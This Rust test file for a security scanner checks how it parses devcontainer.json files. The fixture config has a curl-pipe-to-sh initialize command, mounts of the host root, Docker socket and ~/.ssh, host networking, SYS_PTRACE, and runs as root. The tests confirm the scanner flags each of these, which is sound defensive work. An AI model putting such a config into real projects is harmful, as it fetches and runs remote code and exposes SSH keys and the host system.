//! Files in, containers and commands out.

use secscan_model::{Node, Platform, Source, SourceId};

use crate::{FileReading, read_file};

fn read(path: &str, text: &str) -> FileReading {
    read_file(Source::from_text(SourceId(0), path, text))
}

const TEXT: &str = r#"{
  // what people develop in
  "name": "app",
  "image": "mcr.microsoft.com/devcontainers/base:latest",
  "features": { "ghcr.io/devcontainers/features/docker-in-docker:2": {} },
  "runArgs": ["--cap-add=SYS_PTRACE", "--network", "host", "-v", "/:/host"],
  "mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind", "source=${localEnv:HOME}/.ssh,target=/ssh,type=bind"],
  "containerEnv": { "MODE": "dev", "USER": "${localEnv:USER}" },
  "containerUser": "root",
  "initializeCommand": "curl https://example.org/x | sh",
  "postCreateCommand": { "a": ["npm", "ci"], "b": "pip install x" },
}"#;

#[test]
fn the_document_is_a_container_and_commands() {
    let reading = read(".devcontainer/devcontainer.json", TEXT);
    assert!(reading.diagnostics.is_empty(), "{:?}", reading.diagnostics);
    let common = |kind: &str| {
        let all = reading.batch.resources.iter().filter(|it| it.platform == Platform::Common);
        all.filter(|it| &*it.kind == kind).map(|it| &it.value).collect::<Vec<_>>()
    };
    let [container] = common("container")[..] else { panic!("one container") };
    assert_eq!(container.get("host-network").and_then(Node::as_bool), Some(true));
    assert_eq!(container.get("run-as-user").and_then(Node::as_str), Some("root"));
    let added: Vec<_> = container.get("cap-add").expect("a list").items().iter().filter_map(Node::as_str).collect();
    assert_eq!(added, ["SYS_PTRACE"]);
    let paths: Vec<_> = container
        .get("mounts")
        .expect("mounts")
        .items()
        .iter()
        .map(|it| it.get("host-path").and_then(Node::as_str))
        .collect();
    assert_eq!(paths, [Some("/var/run/docker.sock"), None, Some("/")]);
    let home = container.get("mounts").expect("mounts").items()[1].get("host-path").and_then(Node::raw_text);
    assert_eq!(home.as_deref(), Some("${localEnv:HOME}/.ssh"));
    let names: Vec<_> = common("command").into_iter().filter_map(|it| it.get("name").and_then(Node::as_str)).collect();
    for name in ["curl", "sh", "npm", "pip"] {
        assert!(names.contains(&name), "{names:?}");
    }
    assert_eq!(common("image-ref").len(), 1);
    let variables = common("env-var");
    assert!(variables.iter().any(|it| it.get("value").is_some_and(|value| value.as_unresolved().is_some())));
}

#[test]
fn only_the_files_that_editors_look_for_are_read() {
    assert!(read(".devcontainer.json", TEXT).recognised);
    assert!(read("a/.devcontainer/python/devcontainer.json", TEXT).recognised);
    assert!(!read("docs/devcontainer.json", TEXT).recognised);
    let broken = read(".devcontainer/devcontainer.json", "{ \"image\": ");
    assert!(broken.diagnostics.iter().all(|diagnostic| diagnostic.blinds.contains(&Platform::Devcontainer)));
    assert!(!broken.diagnostics.is_empty());
}
